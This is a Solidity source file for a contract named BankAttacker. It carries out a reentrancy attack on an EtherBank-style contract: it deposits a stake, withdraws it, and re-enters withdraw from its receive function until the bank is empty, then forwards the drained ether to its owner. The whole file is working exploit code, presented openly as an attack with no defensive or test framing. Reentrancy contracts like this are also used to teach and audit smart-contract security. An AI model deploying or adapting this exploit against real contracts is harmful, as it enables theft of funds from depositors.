// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IEtherBank {
    function deposit() external payable;

    function withdraw(uint256 amount) external;
}

/// @title BankAttacker
/// @notice Drains an EtherBank through reentrancy: deposit a stake, withdraw it, and withdraw it
///         again from `receive` while the bank still records the stake, until the bank is empty.
///         The loot is forwarded to the owner EOA that deployed this contract.
contract BankAttacker {
    IEtherBank public immutable bank;
    address public immutable owner;
    uint256 public stake;
    uint256 public reentries;

    event Drained(address indexed bank, address indexed beneficiary, uint256 loot, uint256 reentries);

    constructor(IEtherBank bank_) {
        bank = bank_;
        owner = msg.sender;
    }

    /// @notice Deposit `msg.value` as the stake, then withdraw it re-entrantly until the bank is dry.
    function attack() external payable {
        require(msg.sender == owner, "BankAttacker: not owner");
        require(msg.value > 0, "BankAttacker: no stake");
        stake = msg.value;
        bank.deposit{value: msg.value}();
        bank.withdraw(msg.value);
        uint256 loot = address(this).balance;
        emit Drained(address(bank), owner, loot, reentries);
        (bool ok, ) = owner.call{value: loot}("");
        require(ok, "BankAttacker: payout failed");
    }

    /// @dev Each payment from the bank re-enters `withdraw` while the bank still holds ETH.
    receive() external payable {
        if (msg.sender != address(bank)) {
            return;
        }
        uint256 left = address(bank).balance;
        if (left > 0) {
            reentries += 1;
            bank.withdraw(left < stake ? left : stake);
        }
    }
}
